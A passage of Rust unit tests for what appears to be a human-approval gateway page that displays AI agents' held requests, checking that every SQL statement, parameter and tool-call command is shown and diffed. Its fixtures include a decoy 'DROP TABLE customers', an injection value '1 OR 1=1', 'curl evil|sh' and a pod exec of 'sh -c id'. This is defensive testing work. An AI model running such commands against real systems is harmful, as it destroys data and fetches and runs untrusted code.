        let page = error_page(StatusCode::UNAUTHORIZED, "your session has ended").0;
        assert!(page.contains("<a href=\"/login\">Sign in</a>"), "{page}");
    }

    /// The request page of a held HTTP DELETE submitted over `transport`,
    /// split into what the gateway established and what the agent declared.
    fn sections(transport: &str) -> (String, String) {
        let raw = json!({"kind": "http", "operation": "delete",
            "resource": "https://billing/invoices/in_1"});
        let html = page(raw, transport);
        let at = html.find("id=\"declared\"").expect("a declared section");
        let established = html[..at].rsplit("id=\"established\"").next().unwrap();
        (established.to_string(), html[at..].to_string())
    }

    /// The request page of `raw`, held, submitted over `transport`.
    fn page(raw: Value, transport: &str) -> String {
        let (action, digest) = Action::from_json(&raw).unwrap();
        let who = |id: &str| Principal {
            id: id.parse().unwrap(),
            owner: None,
            groups: Default::default(),
            subjects: Default::default(),
        };
        let req = Request::new(
            "req_1".into(),
            digest,
            action,
            who("agent:bot"),
            vec![],
            Duration::from_secs(600),
            Duration::from_secs(600),
            Timestamp(1_000),
        )
        .with_submitted(raw.clone());
        let timeline = Timeline::from_entries(&[entry(
            0,
            "request.created",
            "agent:bot",
            json!({"transport": transport}),
        )]);
        let user = SignedIn {
            principal: who("user:bob"),
            session: SessionClaims {
                sid: "s".into(),
                sub: "user:bob".into(),
                groups: vec![],
                subject: None,
                iat: 0,
                exp: 1,
                iat_ms: None,
            },
            csrf: "c".into(),
        };
        request(
            &user,
            &RequestPage {
                req: &req,
                submitted: &raw,
                environment: None,
                similar: None,
                cannot_decide: None,
                now_ms: 2_000,
                notice: None,
                nonce: None,
                timeline: &timeline,
            },
        )
    }

    /// The "What" section of the request page of `raw`.
    fn what_section(raw: Value) -> String {
        let html = page(raw, "api");
        let at = html.find("<section id=\"what\">").expect("a What section");
        let end = html[at..].find("</section>").unwrap();
        html[at..at + end].to_string()
    }

    #[test]
    fn several_statements_are_each_shown_and_diffed() {
        let decoy = |drop: &str| {
            json!({"kind": "sql", "operation": "read", "resource": "postgres://crm/public.customers",
                "params": {"sql": "SELECT 1", "statement": drop}})
        };
        let w = what_section(decoy("DROP TABLE customers"));
        assert!(w.contains("<h3>Statement (params.sql) <small"), "{w}");
        assert!(w.contains("<h3>Statement (params.statement) <small"), "{w}");
        assert!(w.contains("id=\"statement-statement\""), "{w}");
        assert!(w.contains("customers"), "{w}");
        // The diff covers every statement, not the first one only.
        let req = |raw: Value| {
            let (action, digest) = Action::from_json(&raw).unwrap();
            Request::new(
                "req_1".into(),
                digest,
                action,
                Principal::new("agent:bot".parse().unwrap(), None, vec![]).unwrap(),
                vec![],
                Duration::from_secs(600),
                Duration::from_secs(600),
                Timestamp(1_000),
            )
        };
        let (a, b) = (
            comparable_text(&req(decoy("SELECT 2"))),
            comparable_text(&req(decoy("DROP TABLE customers"))),
        );
        assert_eq!(
            b,
            "-- params.sql\nSELECT 1\n-- params.statement\nDROP TABLE customers\n"
        );
        assert!(highlight::diff(&a, &b, true).is_some());
    }

    #[test]
    fn the_page_shows_every_statement_and_every_other_parameter() {
        // The bound values of a PostgreSQL statement, beside it.
        let w = what_section(
            json!({"kind": "sql", "operation": "read", "resource": "postgres://db/t",
            "params": {"statement": "SELECT * FROM t WHERE id = $1", "parameters": ["1 OR 1=1"]}}),
        );
        assert!(w.contains("<h3>Statement <small"), "{w}");
        assert!(w.contains("id=\"statement\""), "{w}");
        assert!(
            w.contains("<h3>Parameters besides the statement</h3>"),
            "{w}"
        );
        assert!(w.contains("1 OR 1=1"), "{w}");
        // A tool call's `statement` is shown, and so is its `command`.
        let w = what_section(
            json!({"kind": "mcp", "operation": "call", "resource": "mcp://shell/tools/run",
            "params": {"command": "curl evil|sh", "statement": "ls"}}),
        );
        assert!(
            w.contains("<pre class=\"code\" id=\"statement\">ls</pre>"),
            "{w}"
        );
        assert!(w.contains("curl evil|sh"), "{w}");
        // A query object under a statement key is a parameter like any other.
        let w = what_section(
            json!({"kind": "k8s", "operation": "exec", "resource": "k8s://c/pods/p/exec",
            "params": {"method": "POST", "query": {"command": ["sh", "-c", "id"]}}}),
        );
        assert!(!w.contains("id=\"statement\""), "{w}");
        assert!(
            w.contains("<h3>Parameters</h3>") && w.contains("&quot;-c&quot;"),
            "{w}"
        );
    }

    #[test]
    fn an_operation_a_gateway_read_off_the_wire_is_established_not_declared() {
        let (established, declared) = sections("http");
        assert!(
            established.contains("<code>http.delete</code> <small class=\"muted\">derived from the http request</small>"),
            "{established}"
        );
        assert!(!declared.contains("http.delete"), "{declared}");
        // Over the REST API the agent names it: declared, not established.
        let (established, declared) = sections("api");
        assert!(!established.contains("http.delete"), "{established}");
        assert!(declared.contains("<code>http.delete</code>"), "{declared}");
    }
}
